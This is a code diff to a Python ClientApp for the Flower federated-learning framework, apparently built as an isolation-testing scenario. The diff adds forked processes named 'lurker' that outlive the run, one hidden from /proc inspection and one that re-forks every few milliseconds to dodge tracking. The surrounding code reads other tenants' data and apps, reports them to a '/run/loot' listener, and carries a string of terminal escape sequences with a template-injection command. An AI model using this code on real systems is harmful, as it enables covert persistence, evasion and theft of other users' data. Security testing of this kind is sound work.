@@ -5,6 +5,7 @@
 from __future__ import annotations
 
 import contextlib
+import ctypes
 import json
 import os
 import socket
@@ -24,6 +25,7 @@ from .probe import HOME, probe
 LISTENER = "/run/loot"  # of the scenario's own: Flower gives the output of ServerApps to nobody
 LURKS = 600  # seconds for which a process outlives its run
 DEEP = 200_000
+PR_SET_DUMPABLE, PR_SET_NAME = 4, 15  # linux/prctl.h
 ESCAPES = "\x1b]0;owned\x07\x1b[2J\u202e{{ lookup('pipe', 'touch /tmp/owned-by-template') }}"
 
 server = ServerApp()
@@ -45,13 +47,33 @@ def probed(context: Context) -> dict[str, list[str]]:
 
 @client.train()
 def train(message: Message, context: Context) -> Message:
-    """Answer with a model of one number, after a look around."""
+    """Answer with a model of one number, after a look around; leave processes behind."""
+    outlive(hops=False)
+    outlive(hops=True)
     got = probed(context)
     got["data of others"] = data_of_others(str(context.node_config.get("data-path", "")))
     got["apps of others"] = apps_of_others()
     tell("clientapp", got)
     content = RecordDict({"arrays": ArrayRecord([np.ones(1)]), "metrics": MetricRecord({"num-examples": 1})})
     return Message(content=content, reply_to=message)
+
+
+def outlive(hops: bool) -> None:
+    """Leave a process behind that C(/proc) hides, or one that is another one every few milliseconds."""
+    if os.fork():
+        return
+    os.setsid()
+    system = ctypes.CDLL(None)
+    system.prctl(PR_SET_NAME, b"lurker", 0, 0, 0)
+    if not hops:
+        system.prctl(PR_SET_DUMPABLE, 0, 0, 0, 0)
+    tell("lurker", {})
+    end = time.monotonic() + LURKS
+    while time.monotonic() < end:
+        if hops and os.fork():
+            os._exit(0)
+        time.sleep(0.005 if hops else 1)
+    os._exit(0)
 
 
 def data_of_others(own: str) -> list[str]:
